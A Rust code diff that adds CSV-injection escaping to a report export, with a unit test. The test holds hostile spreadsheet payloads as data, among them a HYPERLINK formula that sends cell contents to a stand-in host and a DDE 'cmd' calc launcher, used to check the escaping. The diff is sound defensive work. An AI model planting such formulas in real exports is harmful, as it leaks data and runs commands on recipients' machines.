@@ -146,7 +146,7 @@ pub(crate) fn answer(report: Report, csv: bool, name: &str) -> Result<HttpRespon
     w.write_record(&report.columns).map_err(fail)?;
     for row in &report.rows {
         w.write_record(report.columns.iter().map(|c| match row.get(c) {
-            Some(Value::String(s)) => s.clone(),
+            Some(Value::String(s)) => spreadsheet_safe(s),
             Some(Value::Null) | None => String::new(),
             Some(v) => v.to_string(),
         }))
@@ -157,6 +157,19 @@ pub(crate) fn answer(report: Report, csv: bool, name: &str) -> Result<HttpRespon
         .insert_header((CONTENT_TYPE, "text/csv; charset=utf-8"))
         .insert_header((CONTENT_DISPOSITION, format!("attachment; filename=\"{name}.csv\"")))
         .body(bytes))
+}
+
+/// A text cell no spreadsheet evaluates (OWASP's CSV-injection rule): one that begins with `=`,
+/// `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, which spreadsheets show as text.
+/// Numbers stay numbers (`-1.50`, a correction, is not touched). Names come from Amazon as anyone
+/// who may rename a campaign typed them, so `=HYPERLINK(…)` is a name like any other.
+pub(crate) fn spreadsheet_safe(cell: &str) -> String {
+    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if risky && cell.parse::<f64>().is_err() {
+        format!("'{cell}")
+    } else {
+        cell.to_owned()
+    }
 }
 
 /// Performance (impressions, clicks, cost, orders, units, sales, CTR, CPC, CVR, ACOS, ROAS) of
@@ -270,4 +283,19 @@ pub async fn budgets(
     let market = marketplace_id(p.marketplace.as_deref())?;
     let report = state.store.budget_pacing(&TenantSchema::of(scope.slug()), advertisers.as_deref(), market.as_deref()).await?;
     answer(report, csv, "budgets")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::spreadsheet_safe;
+
+    #[test]
+    fn formulas_are_written_as_text_and_numbers_stay_numbers() {
+        for formula in ["=HYPERLINK(\"https://x.example/?d=\"&A2,\"open\")", "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)*cmd", "\tx", "\rx"] {
+            assert_eq!(spreadsheet_safe(formula), format!("'{formula}"));
+        }
+        for plain in ["-1.50", "+3", "-0", "1e3", "SP - Earbuds - Exact", "", "50.00"] {
+            assert_eq!(spreadsheet_safe(plain), plain);
+        }
+    }
 }
